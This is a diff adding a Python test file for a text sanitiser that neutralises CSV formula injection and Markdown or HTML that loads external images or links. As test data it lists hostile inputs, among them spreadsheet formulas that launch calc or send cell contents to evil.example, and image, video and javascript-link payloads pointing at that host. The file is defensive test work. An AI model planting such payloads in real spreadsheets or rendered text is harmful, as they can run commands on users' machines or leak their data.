@@ -1,0 +1,162 @@
+"""Text from people or files made safe: CSV cells a spreadsheet would run (issue 19, item 8) and
+Markdown that would make the browser fetch something (item 9). The Markdown is checked with a
+CommonMark parser (markdown-it-py): what it renders from the sanitised text has no image, no
+HTML and no link but the visible text."""
+
+import csv
+import io
+import re
+
+import pandas as pd
+import pytest
+from markdown_it import MarkdownIt
+
+from structext_core.benchmark.safe_text import csv_cell, csv_rows, frame_csv, markdown_text
+
+# ---------------------------------------------------------------- CSV
+
+ATTACKS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
+           '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-", "+", "=", "@"]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_a_formula_start_is_written_as_text(text):
+    assert csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["plain", "a=1", " =1", "", "'=1", "-2", "+3", "-2.5", "-1e5", ".5", 0, -2, -2.5,
+                                   True, None])
+def test_other_cells_and_numbers_stay_as_they_are(value):
+    assert csv_cell(value) == value
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _formula_cells(table: list[list[str]]) -> list[str]:
+    """Cells a spreadsheet would run: a formula start, and not a plain number."""
+    return [cell for row in table for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
+            or (cell.startswith("-") and not _number(cell))]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_rows_and_frames_write_every_text_cell_and_header_safely():
+    rows = [{"name": t, "score": -0.5, "n": 3, "note": None} for t in ATTACKS]
+    table = _cells(csv_rows(rows, ["name", "score", "n", "note"]))
+    assert not _formula_cells(table)
+    assert [row[0] for row in table[1:]] == ["'" + t for t in ATTACKS] and table[1][1:] == ["-0.5", "3", ""]
+    frame = pd.DataFrame({"=model": ATTACKS, "mean": [-1.5] * len(ATTACKS), "below": [True] * len(ATTACKS),
+                          "kind": pd.Categorical(["-x"] * len(ATTACKS))})
+    written = _cells(frame_csv(frame))
+    assert written[0] == ["'=model", "mean", "below", "kind"]
+    assert not _formula_cells(written)
+    assert written[1][1:] == ["-1.5", "True", "'-x"]  # numbers stay numbers
+    assert frame["=model"].tolist() == ATTACKS  # the frame itself is untouched
+
+
+# ---------------------------------------------------------------- Markdown
+
+OUTSIDE = "http://evil.example/px.png"
+MALICIOUS = [
+    f"![p]({OUTSIDE})",
+    f"![P]({OUTSIDE.upper()})",
+    f'![p]({OUTSIDE} "title")',
+    f"![p](<{OUTSIDE}>)",
+    "![p](//evil.example/px.png)",
+    "![p](data:image/png;base64,iVBORw0KGgo=)",
+    f"![a [nested] alt]({OUTSIDE})",
+    f"![a ![inner]({OUTSIDE}) b]({OUTSIDE})",
+    f"[![badge]({OUTSIDE})](http://evil.example/)",
+    f"![p][ref]\n\n[ref]: {OUTSIDE}",
+    f"![ref]\n\n[ref]: {OUTSIDE}",
+    f"![p] [ref]\n\n[REF]: <{OUTSIDE}> 'title'",
+    f"\\\\![p]({OUTSIDE})",
+    f"\\\\\\![p]({OUTSIDE})",
+    f"!\\\\[p]({OUTSIDE})",
+    f"<img src=\"{OUTSIDE}\">",
+    f"<IMG SRC={OUTSIDE}>",
+    f"<video poster='{OUTSIDE}'></video>",
+    f"<{OUTSIDE}>",
+    f"![p]({OUTSIDE}\\)",
+    "![p](http://evil.example/a(b)c.png)",
+    f"`code` ![p]({OUTSIDE}) `more`",
+    f"``![p]({OUTSIDE})``",
+    f"\\`![p]({OUTSIDE})`",
+    "text\\",
+    f"* ![p]({OUTSIDE})\n* item",
+    f"> ![p]({OUTSIDE})",
+    f"| a | b |\n|---|---|\n| ![p]({OUTSIDE}) | x |",
+    f"![p](\n{OUTSIDE}\n)",
+    f"!![p]({OUTSIDE})",
+    f"[image: p -> {OUTSIDE}]\n\n[image: p -> {OUTSIDE}]: {OUTSIDE}\n\n!![p]({OUTSIDE})",
+    f"&#33;[p]({OUTSIDE})",
+    "[click](javascript:alert(1)) [site](http://evil.example/)",
+    "[ref link][r]\n\n[r]: http://evil.example/",
+    f":red[![p]({OUTSIDE})]",
+]
+PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")
+
+
+def _render(text: str) -> str:
+    return PARSER.render(text)
+
+
+#: Inputs that load or link nothing even raw (an escaped bracket, a code span, a lone backslash):
+#: kept to check that sanitising them shows them as before.
+HARMLESS = {f"![p]({OUTSIDE}\\)", f"``![p]({OUTSIDE})``", "text\\"}
+
+
+@pytest.mark.parametrize("text", MALICIOUS)
+def test_the_parser_used_here_does_see_the_attack(text):
+    """The oracle works: raw, each text renders something that loads or links."""
+    html = _render(text).lower()
+    assert ("<img" in html or "<a " in html or "<video" in html) != (text in HARMLESS)
+
+
+@pytest.mark.parametrize("text", MALICIOUS)
+def test_sanitised_markdown_loads_and_links_nothing(text):
+    html = _render(markdown_text(text))
+    assert "<img" not in html.lower() and "<video" not in html.lower() and "<a " not in html
+    assert not re.search(r"<[^>]*src=", html, re.IGNORECASE)  # an attribute, not text that shows one
+
+
+def test_an_image_becomes_visible_text_with_its_target():
+    out = markdown_text(f"Look: ![a pixel]({OUTSIDE}) here")
+    assert _render(out) == f"<p>Look: [image: a pixel -&gt; {OUTSIDE}] here</p>\n"
+    nested = _render(markdown_text(f"![a [b] c]({OUTSIDE})"))
+    assert f"[image: a [b] c -&gt; {OUTSIDE}]" in nested
+    assert f"[image: p -&gt; {OUTSIDE}]" in _render(markdown_text(f"![p](<{OUTSIDE}>)"))
+
+
+def test_links_show_their_target_and_formatting_stays():
+    html = _render(markdown_text("**bold** and *it* and [site](http://example.org/x) and <http://example.org/y>"))
+    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
+    assert "[site](http://example.org/x)" in html and "&lt;http://example.org/y&gt;" in html
+
+
+def test_plain_text_renders_as_before():
+    for text in ("A question: what is 3 < 4 in x[0]?", "Line one  \nline two", "a \\[literal\\] bracket",
+                 "", "Ünïcödé and `code`", "C:\\path\\to\\file"):
+        assert _render(markdown_text(text)) == _render(text) or text.count("[") + text.count("<") > 0
+        assert _visible(_render(markdown_text(text))) == _visible(_render(text.replace("\\[", "[")
+                                                                          .replace("\\]", "]")))
+
+
+def _visible(html: str) -> str:
+    return re.sub(r"<[^>]+>", "", html)
+
+
+def test_long_hostile_text_is_sanitised():
+    """Many openers that never close, and a run of backslashes: one pass (no search per
+    opener); the speed is measured in benchmarks/bench_safe_text.py, not here."""
+    text = "![" * 50_000 + "](" * 50_000 + "[" * 100_000 + "\\" * 100_001
+    out = markdown_text(text)
+    assert out.count("\\[") >= 150_000 and "<img" not in _render(out[:20_000])
